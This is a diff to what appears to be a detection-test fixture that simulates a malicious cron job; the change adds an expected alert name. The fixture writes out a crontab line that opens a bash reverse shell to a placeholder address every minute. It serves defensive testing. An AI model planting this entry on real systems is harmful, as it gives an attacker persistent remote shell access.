@@ -38,7 +38,7 @@ BEHAVIOURS = (
         techniques=("T1053.003", "T1059.004"),
         does="A user's crontab opens a shell to a distant machine each minute.",
         marks=("203.0.113.6/4443",),
-        raises=("cron_job_fetch_and_run",),
+        raises=("cron_job_fetch_and_run", "cron_job_opens_network_shell"),
         files={"/var/spool/cron/crontabs/games": "* * * * * bash -c 'bash -i >& /dev/tcp/203.0.113.6/4443 0>&1'\n"},
         modes={"/var/spool/cron/crontabs/games": 0o600},
     ),
